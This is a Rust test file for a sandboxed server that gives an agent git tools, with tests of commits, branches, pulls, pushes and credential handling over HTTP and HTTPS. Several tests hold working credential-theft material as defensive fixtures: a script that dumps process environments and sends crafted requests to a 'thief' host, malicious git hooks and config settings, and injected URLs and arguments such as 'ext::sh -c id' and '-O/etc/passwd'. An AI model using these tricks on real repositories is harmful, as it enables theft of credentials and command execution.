//! Git: what is done alone, and what is done with another repository, by a path, over HTTP and over HTTPS.

mod containers;
mod host;

use std::os::unix::fs::PermissionsExt as _;

use serde_json::{Value, json};
use tempfile::TempDir;

use super::{Disco, modern_call};
use host::{Host, SECRET};

/// A bare repository in the workspace, with one commit, and a clone of it in `work`.
async fn with_a_clone() -> Disco {
    let mut disco = Disco::start();
    disco.run("git init -q --bare -b main bare.git").await;
    let cloned = disco.call("git_clone", json!({"url": "file:///workspace/bare.git", "path": "work"})).await;
    assert_eq!((&cloned["path"], &cloned["branch"]), (&json!("work"), &json!("main")), "{cloned}");
    commit(&mut disco, "work", "a.txt", "one\n").await;
    disco.call("git_push", json!({"path": "work"})).await;
    disco
}

/// Writes a file and commits it; gives the commit's hash.
async fn commit(disco: &mut Disco, folder: &str, file: &str, content: &str) -> Value {
    disco.call("file_write", json!({"path": format!("{folder}/{file}"), "content": content})).await;
    let message = format!("Change {file}");
    let done = disco.call("git_commit", json!({"path": folder, "message": message, "files": [file]})).await;
    done["commit"]["hash"].clone()
}

/// A server that may reach these hosts, and has the credential of the first.
fn with_hosts(hosts: &[&Host]) -> Disco {
    let folder = tempfile::tempdir().unwrap();
    let file = credentials(
        &folder,
        &format!("['{}']\ntoken = '{SECRET}'\ninsecure_http = true\n", hosts[0].address),
    );
    let mut flags = vec!["--git-credentials".to_owned(), file];
    for host in hosts {
        flags.extend(["--network-host".to_owned(), host.address.to_string()]);
    }
    Disco::start_in(folder, &flags.iter().map(String::as_str).collect::<Vec<_>>())
}

fn credentials(folder: &TempDir, text: &str) -> String {
    let path = folder.path().join("credentials.toml");
    std::fs::write(&path, text).unwrap();
    std::fs::set_permissions(&path, std::fs::Permissions::from_mode(0o600)).unwrap();
    path.to_str().unwrap().to_owned()
}

#[tokio::test]
async fn commits_are_made_listed_shown_compared_and_taken_back() {
    let mut disco = with_a_clone().await;
    disco.call("file_write", json!({"path": "work/a.txt", "content": "one\ntwo\n"})).await;
    let diff = disco.call("git_diff", json!({"path": "work"})).await;
    assert_eq!((&diff["added"], &diff["files"][0]["path"]), (&json!(1), &json!("a.txt")));
    assert!(diff["diff"].as_str().unwrap().contains("\n+two\n"), "{diff}");
    let staged = disco.call("git_add", json!({"path": "work"})).await;
    assert_eq!(staged["staged"][0]["path"], "a.txt");
    let diff = disco.call("git_diff", json!({"path": "work", "staged": true, "stat": true})).await;
    assert_eq!((&diff["files"][0]["added"], &diff["diff"]), (&json!(1), &Value::Null));
    let status = disco.call("git_reset", json!({"path": "work", "files": ["a.txt"]})).await;
    assert_eq!((&status["staged"], &status["modified"][0]["path"]), (&json!([]), &json!("a.txt")));

    let nothing = disco.fail("git_commit", json!({"path": "work", "message": "x"})).await;
    assert!(nothing["message"].as_str().unwrap().contains("nothing"), "{nothing}");
    let author = "Ada <ada@example.org>";
    let arguments =
        json!({"path": "work", "message": "Add two\n\nWhy not.", "files": ["a.txt"], "author": author});
    let done = disco.call("git_commit", arguments).await;
    assert_eq!((&done["clean"], &done["branch"]), (&json!(true), &json!("main")));
    let log = disco.call("git_log", json!({"path": "work", "limit": 1})).await;
    let last = &log["commits"][0];
    assert_eq!((&last["subject"], &last["body"]), (&json!("Add two"), &json!("Why not.")));
    assert_eq!(last["author"], json!({"name": "Ada", "email": "ada@example.org"}));
    assert_eq!(log["next_skip"], 1);
    let first = disco.call("git_log", json!({"path": "work", "skip": 1, "paths": ["a.txt"]})).await;
    assert_eq!(first["commits"][0]["author"]["name"], "Disco");
    assert_eq!((first["commits"].as_array().unwrap().len(), &first["next_skip"]), (1, &Value::Null));
    let shown = disco.call("git_show", json!({"path": "work"})).await;
    assert_eq!(shown["commit"]["hash"], last["hash"]);
    assert_eq!(shown["changes"]["files"][0], json!({"path": "a.txt", "added": 1, "removed": 0}));
    let ahead = disco.call("git_status", json!({"path": "work"})).await;
    assert_eq!((&ahead["ahead"], &ahead["upstream"]), (&json!(1), &json!("origin/main")));

    let back = disco.call("git_reset", json!({"path": "work", "mode": "hard", "target": "HEAD~1"})).await;
    assert_eq!((&back["clean"], &back["ahead"]), (&json!(true), &json!(0)));
    assert_eq!(disco.run("cat work/a.txt").await["stdout"], "one\n");
}

#[tokio::test]
async fn branches_are_made_gone_to_renamed_and_deleted() {
    let mut disco = with_a_clone().await;
    disco.call("git_checkout", json!({"path": "work", "target": "topic", "create": true})).await;
    commit(&mut disco, "work", "b.txt", "b\n").await;
    disco.call("file_write", json!({"path": "work/a.txt", "content": "changed\n"})).await;
    let put_back = disco.call("git_checkout", json!({"path": "work", "files": ["a.txt"]})).await;
    assert_eq!((&put_back["clean"], &put_back["branch"]), (&json!(true), &json!("topic")));
    disco.call("git_checkout", json!({"path": "work", "target": "main"})).await;
    let rename = json!({"path": "work", "action": "rename", "name": "topic", "new_name": "theme"});
    let branches = disco.call("git_branch", rename).await;
    let names: Vec<_> =
        branches["branches"].as_array().unwrap().iter().map(|branch| &branch["name"]).collect();
    assert_eq!(names, [&json!("main"), &json!("theme"), &json!("origin/main")]);
    let delete = |force| json!({"path": "work", "action": "delete", "name": "theme", "force": force});
    let kept = disco.fail("git_branch", delete(false)).await;
    assert!(kept["suggestion"].as_str().unwrap().contains("force"), "{kept}");
    disco.call("git_branch", delete(true)).await;
    // What is not committed is never lost by going elsewhere.
    let other = json!({"path": "work", "action": "create", "name": "other"});
    disco.call("git_branch", other).await;
    commit(&mut disco, "work", "a.txt", "two\n").await;
    disco.call("file_write", json!({"path": "work/a.txt", "content": "unsaved\n"})).await;
    let stays = disco.fail("git_checkout", json!({"path": "work", "target": "other"})).await;
    assert_eq!(stays["code"], "GIT_CONFLICT", "{stays}");
    assert_eq!(disco.run("cat work/a.txt").await["stdout"], "unsaved\n");
}

#[tokio::test]
async fn a_pull_tells_conflicts_and_loses_nothing() {
    let mut disco = with_a_clone().await;
    disco.call("git_clone", json!({"url": "bare.git", "path": "other"})).await;
    let theirs = commit(&mut disco, "other", "a.txt", "theirs\n").await;
    disco.call("git_push", json!({"path": "other"})).await;
    commit(&mut disco, "work", "b.txt", "b\n").await;
    let merged = disco.call("git_pull", json!({"path": "work"})).await;
    assert_eq!((&merged["outcome"], &merged["commits"]), (&json!("merged"), &json!(1)), "{merged}");
    disco.call("git_push", json!({"path": "work"})).await;
    let forward = disco.call("git_pull", json!({"path": "other"})).await;
    assert_eq!((&forward["outcome"], &forward["commit"]), (&json!("fast_forward"), &merged["commit"]));
    assert_eq!(disco.call("git_pull", json!({"path": "other"})).await["outcome"], "up_to_date");

    commit(&mut disco, "other", "a.txt", "again theirs\n").await;
    disco.call("git_push", json!({"path": "other"})).await;
    commit(&mut disco, "work", "a.txt", "ours\n").await;
    let conflict = disco.call("git_pull", json!({"path": "work"})).await;
    assert_eq!(
        (&conflict["outcome"], &conflict["conflicts"]),
        (&json!("conflicts"), &json!(["a.txt"])),
        "{conflict}"
    );
    let file = disco.run("cat work/a.txt").await["stdout"].clone();
    assert!(
        file.as_str().unwrap().contains("ours") && file.as_str().unwrap().contains("again theirs"),
        "{file}"
    );
    assert_eq!(disco.call("git_status", json!({"path": "work"})).await["conflicted"], json!(["a.txt"]));
    let waits = disco.fail("git_pull", json!({"path": "work"})).await;
    assert_eq!(waits["code"], "GIT_CONFLICT", "{waits}");
    disco.call("file_write", json!({"path": "work/a.txt", "content": "both\n"})).await;
    let resolved = json!({"path": "work", "message": "Take both", "files": ["a.txt"]});
    let resolved = disco.call("git_commit", resolved).await;
    assert_eq!(resolved["commit"]["parents"].as_array().unwrap().len(), 2);
    let log = disco.call("git_log", json!({"path": "work", "revision": "HEAD"})).await;
    assert!(log["commits"].as_array().unwrap().iter().any(|commit| commit["hash"] == theirs));
}

#[tokio::test]
async fn a_push_that_would_lose_commits_is_rejected_and_forced_only_over_what_was_seen() {
    let mut disco = with_a_clone().await;
    disco.call("git_clone", json!({"url": "/workspace/bare.git", "path": "other"})).await;
    commit(&mut disco, "other", "a.txt", "theirs\n").await;
    disco.call("git_push", json!({"path": "other"})).await;
    let ours = commit(&mut disco, "work", "a.txt", "ours\n").await;
    let rejected = disco.fail("git_push", json!({"path": "work"})).await;
    assert_eq!(rejected["code"], "GIT_REJECTED", "{rejected}");
    assert!(rejected["suggestion"].as_str().unwrap().contains("git_pull"), "{rejected}");
    let force = json!({"path": "work", "force_with_lease": true});
    let unseen = disco.fail("git_push", force.clone()).await;
    assert_eq!(unseen["code"], "GIT_REJECTED", "{unseen}");
    assert!(unseen["message"].as_str().unwrap().contains("stale"), "{unseen}");
    disco.run("cd work && git fetch -q").await;
    let forced = disco.call("git_push", force).await;
    assert_eq!((&forced["forced"], &forced["commit"]), (&json!(true), &ours), "{forced}");
}

#[tokio::test]
async fn over_http_the_credential_is_added_outside_of_the_sandbox() {
    let host = Host::start().await;
    let mut disco = with_hosts(&[&host]);
    let url = host.url("repo.git");
    let cloned = disco.call("git_clone", json!({"url": url, "path": "work"})).await;
    assert_eq!(cloned["url"], url);
    let first = commit(&mut disco, "work", "a.txt", "one\n").await;
    let pushed = disco.call("git_push", json!({"path": "work"})).await;
    assert_eq!((&pushed["created"], &pushed["commit"], &pushed["url"]), (&json!(true), &first, &json!(url)));
    let again = disco.call("git_push", json!({"path": "work"})).await;
    assert_eq!(again["up_to_date"], true);

    // The second clone tells its progress.
    disco.run("cd work && for i in $(seq 50); do echo $i > f$i; done").await;
    disco.call("git_commit", json!({"path": "work", "message": "Many", "files": ["."]})).await;
    disco.call("git_push", json!({"path": "work", "remote": "origin", "branch": "main"})).await;
    let mut call = modern_call("clone", "git_clone", json!({"url": url, "path": "other", "depth": 1}));
    call["params"]["_meta"]["progressToken"] = json!("p");
    disco.process.send(&call).await;
    let mut told = Vec::new();
    let answer = loop {
        let message = disco.process.message().await;
        if message["id"] == "clone" {
            break message;
        }
        told.push(message["params"]["progress"].as_f64().unwrap());
    };
    assert!(answer["result"].get("isError").is_none(), "{answer}");
    assert!(!told.is_empty() && told.is_sorted() && told.iter().all(|percent| *percent <= 100.0), "{told:?}");
    let second = commit(&mut disco, "work", "a.txt", "two\n").await;
    disco.call("git_push", json!({"path": "work"})).await;
    let pulled =
        disco.call("git_pull", json!({"path": "other", "credential": host.address.to_string()})).await;
    assert_eq!((&pulled["outcome"], &pulled["commit"]), (&json!("fast_forward"), &second));

    assert!(host.seen().iter().all(|seen| seen.authorization.is_some()), "{:?}", host.seen());
    let traces = disco
        .run(&format!(
            "env; cat work/.git/config; grep -rl {SECRET} /workspace /tmp /home /proc/[0-9]*/environ"
        ))
        .await;
    let traces = traces["stdout"].as_str().unwrap();
    assert!(traces.contains(&format!("url = {url}\n")) && !traces.contains("Z2l0On"), "{traces}");
    assert!(!traces.contains("s3cret"), "{traces}");
    let known = disco.call("audit_query", json!({"name": "POST", "limit": 1})).await;
    assert_eq!(known["entries"][0]["kind"], "network", "{known}");
    assert_eq!(known["entries"][0]["target"], format!("default {}", host.address));
}

#[tokio::test]
async fn a_remote_that_wants_another_credential_says_so() {
    let (host, other) = (Host::start().await, Host::start().await);
    let mut disco = with_hosts(&[&host, &other]);
    let none = disco.fail("git_clone", json!({"url": other.url("repo.git")})).await;
    assert_eq!(none["code"], "GIT_AUTH_FAILED", "{none}");
    assert!(none["message"].as_str().unwrap().contains("there is none"), "{none}");
    let name = host.address.to_string();
    let foreign = disco.fail("git_clone", json!({"url": other.url("repo.git"), "credential": name})).await;
    assert_eq!(foreign["code"], "GIT_AUTH_FAILED", "{foreign}");
    assert!(other.seen().iter().all(|seen| seen.authorization.is_none()), "{:?}", other.seen());
    let missing = disco.fail("git_clone", json!({"url": host.url("none.git")})).await;
    assert_eq!(missing["code"], "GIT_REMOTE_NOT_FOUND", "{missing}");

    credentials(&disco.folder, &format!("['{name}']\ntoken = 'old'\ninsecure_http = true\n"));
    let wrong = disco.fail("git_clone", json!({"url": host.url("repo.git")})).await;
    assert!(wrong["message"].as_str().unwrap().contains("refuses the credential"), "{wrong}");
    credentials(&disco.folder, &format!("['{name}']\ntoken = '{SECRET}'\n"));
    let plain = disco.fail("git_clone", json!({"url": host.url("repo.git")})).await;
    assert!(plain["message"].as_str().unwrap().contains("unencrypted"), "{plain}");
    let file = disco.folder.path().join("credentials.toml");
    std::fs::set_permissions(file, std::fs::Permissions::from_mode(0o644)).unwrap();
    let open = disco.fail("git_clone", json!({"url": host.url("repo.git")})).await;
    assert_eq!(open["code"], "INVALID_CONFIG", "{open}");
}

/// Runs in the sandbox of a fetch, and tries whatever could lead to the credential.
const THIEF: &str = r"exec 2>&1 >> /workspace/loot
env
cat /proc/*/environ /proc/*/cmdline | tr '\0' '\n'
for url in $HOST/repo.git/info/refs?service=git-receive-pack $HOST/other.git/info/refs?service=git-upload-pack \
    $HOST/user/tokens $THIEF/repo.git/info/refs?service=git-upload-pack; do
    curl -sS -x http://127.0.0.1:3128 -v $url
    curl -sS -x http://127.0.0.1:3128 -v -p $url
    curl -sS -x http://127.0.0.1:3128 -v -H 'Connection: authorization' -X TRACE $url
    curl -sS --noproxy '*' --max-time 5 $url
done
echo end of the loot
";

#[tokio::test]
async fn a_repository_that_is_set_up_to_steal_the_credential_gets_nothing() {
    let (host, thief) = (Host::start().await, Host::start().await);
    let mut disco = with_hosts(&[&host, &thief]);
    let url = host.url("repo.git");
    disco.call("git_clone", json!({"url": url, "path": "work"})).await;
    commit(&mut disco, "work", "a.txt", "one\n").await;
    disco.call("git_push", json!({"path": "work"})).await;
    let before = host.seen().len();

    let script = THIEF.replace("$HOST", &host.url("")).replace("$THIEF", &thief.url(""));
    let script = script.replace("//repo", "/repo").replace("//other", "/other").replace("//user", "/user");
    disco.call("file_write", json!({"path": "thief.sh", "content": script})).await;
    let plant = format!(
        "cd work && for hook in pre-push post-merge reference-transaction post-checkout pre-auto-gc; do
            echo 'sh /workspace/thief.sh' > .git/hooks/$hook || mkdir .git/hooks && echo 'sh /workspace/thief.sh' > .git/hooks/$hook
            chmod +x .git/hooks/$hook
        done
        git config credential.helper '!sh /workspace/thief.sh'
        git config credential.{0}.helper '!sh /workspace/thief.sh'
        git config core.askPass /workspace/thief.sh
        git config core.fsmonitor 'sh /workspace/thief.sh'
        git config core.sshCommand 'sh /workspace/thief.sh'
        git config http.extraHeader 'Authorization: Basic dGhpZWY6eA=='
        git config url.{1}/.pushInsteadOf {0}/none
        # It runs in the middle of a fetch.
        git init -q --bare /workspace/alternate
        echo /workspace/alternate/objects > .git/objects/info/alternates
        git config core.alternateRefsCommand 'sh /workspace/thief.sh; true'",
        format_args!("http://{}", host.address),
        format_args!("http://{}", thief.address),
    );
    disco.run(&plant).await;
    let pulled = disco.call("git_pull", json!({"path": "work"})).await;
    assert_eq!(pulled["outcome"], "up_to_date", "{pulled}");
    let loot = disco.run("sort -u loot | grep -v ^GIT_CONFIG | grep -vi _proxy= | tail -c 12000").await;
    let has = async |disco: &mut Disco, word: &str| {
        let found = disco.run(&format!("grep -cF -e \"{word}\" loot")).await;
        found["stdout"] != "0\n"
    };
    assert!(has(&mut disco, "end of the loot").await, "the attack was not even tried: {loot}");
    assert!(has(&mut disco, "only git's own requests").await, "{loot}");
    let secret = |text: &str| text.contains(SECRET) || text.contains("Z2l0On");
    for word in [SECRET, "Z2l0On"] {
        assert!(!has(&mut disco, word).await, "{loot}");
    }
    let asked: Vec<_> = host.seen()[before..].iter().map(|seen| seen.path.clone()).collect();
    assert!(
        asked
            .iter()
            .all(|path| ["/repo.git/info/refs", "/repo.git/git-upload-pack"].contains(&path.as_str())),
        "{asked:?}"
    );

    // Whoever is asked instead of the host is not reached, and gets nothing.
    for trick in [
        format!("git config http.proxy http://{}", thief.address),
        format!("git config http.http://{}.proxy http://{}", host.address, thief.address),
        format!("git config url.http://{}/.insteadOf http://{}/", thief.address, host.address),
        format!("git config remote.origin.proxy http://{}", thief.address),
    ] {
        disco.run(&format!("cd work && {trick}")).await;
        // Some of these leave git without a way to the host: then it fails.
        disco.try_call("git_pull", json!({"path": "work"})).await;
        disco.try_call("git_push", json!({"path": "work"})).await;
        assert!(
            thief.seen().iter().all(|seen| seen.authorization.as_deref().is_none_or(|sent| !secret(sent))),
            "{trick}"
        );
    }
    for word in [SECRET, "Z2l0On"] {
        assert!(!has(&mut disco, word).await, "{word} is in the loot");
    }
}

#[tokio::test]
async fn a_redirect_to_another_host_is_not_followed() {
    let (host, thief) = (Host::start().await, Host::start().await);
    host.redirect_to(&thief.url("repo.git"));
    let mut disco = with_hosts(&[&host, &thief]);
    let refused = disco.fail("git_clone", json!({"url": host.url("moved.git")})).await;
    assert_eq!(refused["code"], "GIT_REMOTE_REFUSED", "{refused}");
    assert!(refused["message"].as_str().unwrap().contains(&thief.url("repo.git")), "{refused}");
    assert!(thief.seen().is_empty(), "{:?}", thief.seen());
}

#[tokio::test]
async fn over_https_the_host_must_show_that_it_is_the_host() {
    let host = Host::start_with_tls().await;
    let port = host.address.port();
    let (url, name) = (format!("https://localhost:{port}/repo.git"), format!("localhost:{port}"));
    let start = |authority: bool| {
        let folder = tempfile::tempdir().unwrap();
        let file = credentials(&folder, &format!("[work]\nhost = '{name}'\ntoken = '{SECRET}'\n"));
        let ca = folder.path().join("ca.pem");
        std::fs::write(&ca, host.certificate.as_ref().unwrap()).unwrap();
        let ca = ca.to_str().unwrap().to_owned();
        let mut flags = vec!["--git-credentials", &file, "--network-host", &name];
        if authority {
            flags.extend(["--ca-file", &ca]);
        }
        Disco::start_in(folder, &flags)
    };
    let mut disco = start(true);
    disco.call("git_clone", json!({"url": url, "path": "work"})).await;
    let hash = commit(&mut disco, "work", "a.txt", "one\n").await;
    assert_eq!(disco.call("git_push", json!({"path": "work", "credential": "work"})).await["commit"], hash);
    assert_eq!(disco.run("git -C work remote get-url origin").await["stdout"], format!("{url}\n"));
    let before = host.seen().len();
    let unknown = start(false).fail("git_clone", json!({"url": url})).await;
    assert_eq!(unknown["code"], "GIT_REMOTE_UNREACHABLE", "{unknown}");
    assert!(unknown["message"].as_str().unwrap().contains("certificate"), "{unknown}");
    assert_eq!(host.seen().len(), before);
}

#[tokio::test]
async fn remotes_that_are_not_allowed_are_refused_in_clear_words() {
    let host = Host::start().await;
    let mut disco = Disco::start();
    for (url, word) in [
        ("git@github.com:a/b.git", "SSH"),
        ("ssh://git@github.com/a/b.git", "SSH"),
        ("ext::sh -c id", "spaces"),
        ("--upload-pack=id", "begins with `-`"),
        ("https://me:secret@example.org/a.git", "password"),
        ("file:///etc", "workspace"),
        ("../other", "workspace"),
        ("http://169.254.169.254/latest.git", "not the public internet"),
        ("http://[fd00:ec2::254]/latest.git", "not the public internet"),
        (host.url("repo.git").as_str(), "network_hosts"),
        ("http://localhost:1/a.git", "network_hosts"),
    ] {
        let refused = disco.fail("git_clone", json!({"url": url, "path": "x"})).await;
        assert_eq!(refused["code"], "GIT_REMOTE_REFUSED", "{url}: {refused}");
        assert!(refused["message"].as_str().unwrap().contains(word), "{url}: {refused}");
        assert!(!refused.to_string().contains("secret"), "{refused}");
    }
    assert!(host.seen().is_empty());
    for (tool, arguments) in [
        ("git_log", json!({"revision": "--output=x"})),
        ("git_diff", json!({"from": "-O/etc/passwd"})),
        ("git_branch", json!({"action": "create", "name": "-f"})),
        ("git_checkout", json!({"target": "-f"})),
        ("git_push", json!({"remote": "--mirror"})),
        ("git_reset", json!({"target": "-q"})),
    ] {
        disco.run("git init -q").await;
        assert_eq!(disco.fail(tool, arguments).await["code"], "INVALID_ARGUMENT", "{tool}");
    }
}
